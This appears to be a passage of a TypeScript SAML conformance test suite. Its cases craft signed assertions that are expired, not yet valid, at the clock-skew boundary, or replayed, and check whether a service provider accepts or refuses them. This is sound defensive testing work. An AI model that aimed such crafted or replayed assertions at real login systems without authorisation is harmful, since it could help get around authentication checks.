      return [out(s, kind, v, "confirmation NotOnOrAfter beyond skew", [idpSigned(s, tokenSpec(s, v, { confirmationNotOnOrAfter: past }))])];
    },
  },
  {
    id: "semantics/expired-beyond-skew",
    title: "A token whose NotOnOrAfter passed by more than the skew is refused",
    requirements: ["SAML-VALIDITY"],
    judge: "reject",
    craft(s, kind, v) {
      const end = s.now - beyondSkewMs(s);
      return [out(s, kind, v, "NotOnOrAfter beyond skew", [idpSigned(s, tokenSpec(s, v, { notBefore: end - 3600_000, notOnOrAfter: end, confirmationNotOnOrAfter: end }))])];
    },
  },
  {
    id: "semantics/not-yet-valid-beyond-skew",
    title: "A token whose NotBefore lies further ahead than the skew is refused",
    requirements: ["SAML-VALIDITY"],
    judge: "reject",
    craft(s, kind, v) {
      const start = s.now + beyondSkewMs(s);
      return [out(s, kind, v, "NotBefore beyond skew", [idpSigned(s, tokenSpec(s, v, { notBefore: start, notOnOrAfter: start + 3600_000, confirmationNotOnOrAfter: start + 3600_000 }))])];
    },
  },
  {
    id: "semantics/expired-at-skew-boundary",
    title: "A token whose NotOnOrAfter is exactly the declared skew in the past (observed: NotOnOrAfter is exclusive)",
    requirements: ["SAML-VALIDITY"],
    judge: "observe",
    needsSkew: true,
    craft(s, kind, v) {
      const end = s.now - (s.skewSeconds ?? 0) * 1000;
      return [out(s, kind, v, "NotOnOrAfter = now - skew", [idpSigned(s, tokenSpec(s, v, { notBefore: end - 3600_000, notOnOrAfter: end, confirmationNotOnOrAfter: s.now + 300_000 }))])];
    },
  },
  {
    id: "semantics/expired-within-skew",
    title: "A token that expired less than the declared skew ago is still accepted",
    requirements: ["SAML-VALIDITY"],
    judge: "accept",
    needsSkew: true,
    craft(s, kind, v) {
      const end = s.now - Math.max(0, (s.skewSeconds ?? 0) * 1000 - 30_000);
      return [out(s, kind, v, "NotOnOrAfter = now - skew + 30 s", [idpSigned(s, tokenSpec(s, v, { notBefore: end - 3600_000, notOnOrAfter: end, confirmationNotOnOrAfter: s.now + 300_000 }))])];
    },
  },
  {
    id: "semantics/not-yet-valid-within-skew",
    title: "A token whose NotBefore lies less than the declared skew ahead is accepted",
    requirements: ["SAML-VALIDITY"],
    judge: "accept",
    needsSkew: true,
    craft(s, kind, v) {
      const start = s.now + Math.max(0, (s.skewSeconds ?? 0) * 1000 - 30_000);
      return [out(s, kind, v, "NotBefore = now + skew - 30 s", [idpSigned(s, tokenSpec(s, v, { notBefore: start, notOnOrAfter: start + 3600_000, confirmationNotOnOrAfter: start + 3600_000 }))])];
    },
  },
  {
    id: "semantics/replay",
    title: "The same signed assertion delivered a second time is refused",
    requirements: ["SAML-REPLAY", "SAML-REPLAY-11"],
    judge: "replay",
    craft(s, kind, v) {
      const token = out(s, kind, v, "first delivery", [legitSigned(s, v)]);
      return [token, { ...token, name: "second delivery of the same assertion" }];
    },
  },
];

/** How far past the skew "beyond" is: a minute past the declared skew, or an hour when none is declared. */
export function beyondSkewMs(s: Scenario): number {
  return s.skewSeconds !== undefined ? s.skewSeconds * 1000 + 60_000 : 3600_000;
}

export { LEGIT, EVIL, TRUNCATED };
